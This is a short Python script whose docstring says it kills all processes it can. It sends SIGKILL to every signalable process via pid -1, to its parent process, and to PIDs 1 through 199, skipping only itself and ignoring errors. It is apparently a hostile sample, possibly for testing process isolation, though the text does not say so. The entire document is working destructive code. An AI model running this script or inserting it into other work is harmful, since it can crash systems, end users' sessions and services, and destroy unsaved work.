"""Kills all processes that it may."""

import os
import signal

for pid in (-1, os.getppid(), *range(1, 200)):
    if pid != os.getpid():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
